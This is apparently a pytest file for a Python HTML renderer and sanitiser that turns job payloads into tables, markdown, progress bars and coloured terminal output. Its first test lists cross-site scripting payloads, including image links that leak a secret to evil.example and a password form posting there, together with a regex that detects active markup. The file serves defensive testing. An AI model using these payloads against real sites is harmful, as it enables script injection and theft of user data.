"""Payloads as HTML: what people read, and what must not get through."""

import json
import re
from decimal import Decimal

import pytest
from pydantic import BaseModel

from kodosumi_prefect.events import Kind, serialize
from kodosumi_prefect.panel.html.render import render
from kodosumi_prefect.panel.html.sanitise import sanitise

ATTACKS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><a xlink:href='javascript:alert(1)'>x</a></svg>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href=' jAvAsCrIpT:alert(1)'>x</a>",
    "[x](javascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "<iframe src='https://evil.example'></iframe>",
    "<form action='https://evil.example'><input name=password></form>",
    "<style>body{display:none}</style>",
    "<div style='position:fixed;inset:0' class='panel' id='head'>x</div>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href='https://evil.example'>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "![x](https://evil.example/leak?secret)",
    "<img src='https://evil.example/leak?secret'>",
    "</div></section><script>alert(1)</script>",
    "\x1b[31m<script>alert(1)</script>",
    "\x1b]8;;javascript:alert(1)\x07click\x1b]8;;\x07",
]
ACTIVE = re.compile(
    r"<(script|style|iframe|form|input|meta|base|svg|math|object|embed|link)\b"
    r"|<[^>]*\s(on\w+|style|id)\s*="
    r"|<[^>]*(href|src)\s*=\s*[\"']?\s*(javascript|data:text|vbscript)"
    r"|<img[^>]*src=[\"']?http",
    re.IGNORECASE,
)


@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_active_gets_through(attack: str) -> None:
    class Model(BaseModel):
        field: str

    payloads = [attack, json.dumps({"Markdown": {"body": attack}})]
    payloads += [json.dumps({name: {"body": attack}}) for name in ("HTML", "Text", attack)]
    payloads += [
        serialize(v)
        for v in (
            attack,
            {attack: attack},
            [{attack: attack}],
            [attack, 1],
            Model(field=attack),
            {"a": {"b": [{attack: [attack]}]}},
            {"done": 1, "total": 2, "text": attack},
        )
    ]
    payloads += [json.dumps({"TaskOutput": {"raw": attack, "name": attack, "agent": attack}})]
    for kind in Kind:
        for payload in payloads:
            html = render(kind, payload)
            assert not ACTIVE.search(html), (kind, payload, html)


FRAME = {"columns": ["n", "<b>"], "data": [[1, "x"], [2, None]], "shape": [5000, 60]}


@pytest.mark.parametrize(
    "stored", [{"DataFrame": FRAME}, {"dict": {"in": FRAME}}, {"__list__": [{"DataFrame": FRAME}]}]
)
def test_a_data_frame_is_a_table_that_names_its_size(stored: dict[str, object]) -> None:
    html = render("result", json.dumps(stored))
    assert '<th scope="col">n</th><th scope="col">&lt;b&gt;</th>' in html
    assert "<tr><td class=number>1</td><td>x</td></tr>" in html
    assert "first 2 of 5,000 rows × first 2 of 60 columns" in html


def test_a_large_data_frame_is_a_table_with_its_labels() -> None:
    rows = [[number, "word " * 60] for number in range(1000)]
    labels = [f"row {number}" for number in range(1000)]
    frame = {"columns": ["n", "w"], "data": rows, "shape": [1000, 2], "index": labels}
    html = render("final", json.dumps({"DataFrame": frame}))
    assert html.count("<tr>") == 1001
    assert '<th scope="row">row 999</th><td class=number>999</td>' in html
    assert "1,000 rows × 2 columns" in html


def test_the_str_of_an_object_keeps_its_lines() -> None:
    html = render("result", json.dumps({"Series": "0    1\n1    2"}))
    assert html == '<p class="type">Series</p><pre class="text">0    1\n1    2</pre>'


def test_markdown_has_tables_links_and_pictures_it_holds_itself() -> None:
    html = render(
        "result",
        json.dumps(
            {
                "Markdown": {
                    "body": (
                        "| a | b |\n|---|--:|\n| 1 | 2 |\n\n~~old~~ [site](https://example.org)\n\n"
                        "![dot](data:image/png;base64,iVBORw0KGgo=) ![far](https://example.org/x.png)"
                    )
                }
            }
        ),
    )
    assert '<td align="right">2</td>' in html
    assert "<s>old</s>" in html
    assert re.search(r'<a href="https://example.org"[^>]*rel="noopener noreferrer"', html)
    assert '<img src="data:image/png;base64,iVBORw0KGgo=" alt="dot">' in html
    assert re.search(r'<a href="https://example.org/x.png"[^>]*>far</a>', html)


def test_values_become_tables_lists_and_words() -> None:
    rows = render("result", serialize([{"n": 1, "x": 2.5}, {"n": 2, "y": None}]))
    assert rows.count("<tr>") == 3
    assert '<th scope="col">y</th>' in rows
    assert '<th scope="row">key</th><td>yes</td>' in render("result", serialize({"key": True}))
    assert "<li>one</li>" in render("result", serialize(["one", 2]))
    assert "line<br" not in render("result", serialize("line\nline"))
    assert "empty" in render("result", serialize({}))


def test_progress_is_a_bar_with_words() -> None:
    html = render("progress", serialize({"done": 5, "total": 20, "text": "at it"}))
    assert 'value="0.2500"' in html
    assert "25%" in html and "5 of 20" in html and "at it" in html
    for odd in ({"done": "x"}, {"done": 3}, {"done": 1, "total": 0}, {"done": 9, "total": -1}, {}):
        assert "<progress" in render("progress", serialize(odd))
    assert 'value="1.0000"' in render("progress", serialize({"done": 30, "total": 20}))


def test_terminal_colours_become_classes() -> None:
    html = render("stdout", "\x1b[1;31mred\x1b[0m plain \x1b[38;5;200mx\x1b[2K\x1b[48;2;1;2;3my")
    assert html == '<span class="ansi-bold ansi-31">red</span> plain xy'


def test_what_is_no_envelope_is_still_shown() -> None:
    for payload in (
        "not json",
        "[1,2]",
        "null",
        '"text"',
        '{"a":1,"b":2}',
        '{"Markdown": 7}',
        "{}",
    ):
        assert render("result", payload)


def test_huge_payloads_stay_small_and_quick() -> None:
    for payload in (
        json.dumps({"Markdown": {"body": "[" * 1_000_000}}),
        json.dumps({"Markdown": {"body": "> " * 50_000}}),
        serialize(["x" * 100] * 50_000),
        serialize({str(i): i for i in range(50_000)}),
        "y" * 5_000_000,
    ):
        for kind in ("result", "stdout", "error"):
            assert len(render(kind, payload)) < 1_500_000


def test_deep_nesting_ends() -> None:
    deep: object = "end"
    for _ in range(60):
        deep = {"k": [deep]}
    assert "end" in render("result", json.dumps({"dict": deep}))
    assert sanitise("<div>" * 10_000 + "x")


def test_values_without_attributes_are_not_called_errors() -> None:
    for value in (None, Decimal("1.10"), [1, None, Decimal("1.10")]):
        html = render("final", serialize(value))
        assert "TypeError" not in html and ("None" in html or "1.10" in html)
